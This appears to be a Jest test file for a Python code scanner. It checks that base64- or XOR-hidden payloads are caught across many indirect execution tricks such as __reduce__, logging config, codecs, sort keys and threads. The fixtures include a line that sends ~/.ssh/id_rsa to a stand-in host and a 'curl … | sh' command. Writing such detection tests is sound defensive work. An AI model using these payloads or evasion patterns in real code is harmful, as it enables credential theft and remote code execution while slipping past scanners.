import { pythonReady } from './grammar';
import { readPython } from './read-python';

const CODE =
  'import os, urllib.request\nurllib.request.urlopen("https://x.invalid", data=open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read())\n';
const COMMAND = 'curl https://x.invalid/s | sh';

const base64 = (text: string) => `base64.b64decode("${Buffer.from(text).toString('base64')}").decode()`;
const xored = (text: string) =>
  `bytes(b ^ 7 for b in bytes.fromhex("${Buffer.from([...Buffer.from(text)].map((byte) => byte ^ 7)).toString('hex')}")).decode()`;

const read = (code: string) => readPython('x.py', `import base64\n${code}\n`);
const signalsOf = (code: string) => read(code).observations.map(({ signal }) => signal);

const CODES: readonly [title: string, code: (hidden: string) => string][] = [
  [
    'that copying calls',
    (h) => `import copy\nclass A:\n    def __reduce__(self):\n        return exec, (${h},)\ncopy.copy(A())`,
  ],
  [
    'in the settings of a log',
    (h) =>
      `import logging.config\nlogging.config.dictConfig({"version": 1, "formatters": {"a": {"()": "builtins.exec", "source": ${h}}}})`,
  ],
  ['as a key', (h) => `class A:\n    __class_getitem__ = exec\nA[${h}]`],
  ['beside an operator', (h) => `class A:\n    __add__ = lambda s, o: exec(o)\nA() + ${h}`],
  ['that a class is asked for', (h) => `class A:\n    def __contains__(s, o): exec(o)\n${h} in A()`],
  [
    'as a word of a class',
    (h) => `class A:\n    def __init_subclass__(cls, run): exec(run)\nclass B(A, run=${h}): pass`,
  ],
  [
    'as what a codec gives',
    (h) =>
      `import codecs\ndef d(b, e="strict"):\n    return ${h}, len(b)\ncodecs.register(lambda n: codecs.CodecInfo(None, d, name=n))`,
  ],
  [
    'line by line',
    (h) => `import code\nlines = iter(${h}.splitlines())\ncode.interact(readfunc=lambda p: next(lines))`,
  ],
  ['in what is put in order', (h) => `a = [${h}]\na.sort(key=exec)`],
  [
    'as a word of a command line',
    (h) =>
      `import argparse\np = argparse.ArgumentParser()\np.add_argument("x", type=exec)\np.parse_args([${h}])`,
  ],
  [
    'as a value of a query',
    (h) =>
      `import sqlite3\nc = sqlite3.connect(":memory:")\nc.create_function("e", 1, exec)\nc.execute("select e(?)", (${h},))`,
  ],
];
/** The same for evaluators that are known: what is hidden there is held whatever it says. */
const EVALUATED: readonly [title: string, code: (hidden: string) => string][] = [
  [
    'in a list beside its evaluator',
    (h) => `import functools\nfunctools.reduce(lambda f, x: f(x), [exec, ${h}])`,
  ],
  [
    'as a hint',
    (h) => `import typing\nclass A: pass\nA.__annotations__ = {"a": ${h}}\ntyping.get_type_hints(A)`,
  ],
  ['among the names of what is evaluated', (h) => `exec("exec(x)", {"x": ${h}})`],
];
const COMMANDS: readonly [title: string, code: (hidden: string) => string][] = [
  ['for a timer', (h) => `import os, threading\nthreading.Timer(0, os.system, [${h}]).start()`],
  ['for a thread', (h) => `import os, threading\nthreading.Thread(target=os.system, args=(${h},)).start()`],
  ['for a pool', (h) => `import os, multiprocessing\nmultiprocessing.Pool(1).apply(os.system, (${h},))`],
  [
    'that unpickling calls',
    (h) => `import os\nclass A:\n    def __reduce__(self):\n        return (os.system, (${h},))`,
  ],
  ['as a word', (h) => `import pexpect\npexpect.spawn("sh", ["-c", ${h}])`],
];
/** Of what nobody can work out: the key is not there. */
const SEALED = `bytes(a ^ b for a, b in zip(bytes.fromhex("${'6b5a'.repeat(40)}"), other.key())).decode()`;

describe('ast/python/parts-handed-on', () => {
  beforeAll(pythonReady);

  it.each([...CODES, ...EVALUATED])('reads hidden code %s', (_title, code) => {
    for (const hide of [base64, xored])
      expect(signalsOf(code(hide(CODE)))).toEqual(expect.arrayContaining(['decoded-code', 'secret-sent']));
  });

  it.each(COMMANDS)('reads a hidden command %s', (_title, code) => {
    for (const hide of [base64, xored]) {
      const { observations, commands } = read(code(hide(COMMAND)));

      expect(observations.map(({ signal }) => signal)).toContain('decoded-code');
      expect(commands.map(({ text }) => text)).toContain(COMMAND);
    }
  });

  it.each([
    ['a timer', `threading.Timer(0, os.system, [${SEALED}])`],
    ['a thread', `threading.Thread(target=os.system, args=(${SEALED},))`],
    ['an end', `atexit.register(os.system, ${SEALED})`],
  ])('says that a command for %s is sealed', (_title, code) => {
    expect(signalsOf(`import atexit, os, other, threading\n${code}`)).toContain('decoded-code');
  });

  // A command that is hidden is held whatever it says, as where it is started at once.
  it.each(CODES)('is silent about other text %s', (_title, code) => {
    for (const hide of [base64, xored, JSON.stringify])
      expect(signalsOf(code(hide('Once upon a time there was a scanner.')))).not.toContain('decoded-code');
  });

  it.each([
    [
      'a table of pictures',
      `ICONS = {"a": base64.b64decode("iVBORw0KGgoAAAANSUhEUg=="), "b": [base64.b64decode("R0lGODlhAQABAAAAACw=")]}`,
    ],
    ['a name that is looked up', 'TABLE[base64.b64decode("bmFtZQ==").decode()]'],
    [
      'what is to come out of a decoder',
      'assert base64.b64decode("cHJpbnQ=") == b"print" and b"a" in base64.b64decode("YWJj")',
    ],
    [
      'a process that is told which program to start',
      'import subprocess, threading\ndef later(words):\n    threading.Thread(target=subprocess.run, args=(words,)).start()',
    ],
    [
      'an end that cleans up',
      'import atexit, shutil, subprocess\natexit.register(shutil.rmtree, "/tmp/x")\natexit.register(subprocess.call, ["umount", "/tmp/x"])',
    ],
  ])('is silent about %s', (_title, code) => {
    expect(signalsOf(code)).not.toContain('decoded-code');
  });

  it('reads what is hidden many times over once for each time', () => {
    const layered = Array.from({ length: 7 }).reduce<string>(
      (code) => `import base64\nexec([${base64(code)}.splitlines(), ${base64(code)}][1])\n`,
      'import socket\n',
    );
    const { imports } = read(layered);

    expect(imports.filter(({ specifier }) => specifier === 'socket').length).toBeLessThan(3);
  });
});
